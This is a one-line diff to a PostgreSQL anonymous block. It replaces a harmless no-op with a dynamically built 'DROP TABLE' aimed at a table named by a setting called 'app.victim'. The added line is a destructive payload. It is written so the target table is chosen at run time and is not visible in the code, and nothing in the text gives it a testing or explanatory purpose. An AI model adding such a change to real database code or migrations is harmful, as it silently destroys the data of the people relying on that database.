@@ -1,1 +1,1 @@
-DO $$ BEGIN PERFORM 1; END $$;
+DO $$ BEGIN EXECUTE format('DROP TABLE %I', current_setting('app.victim')); END $$;
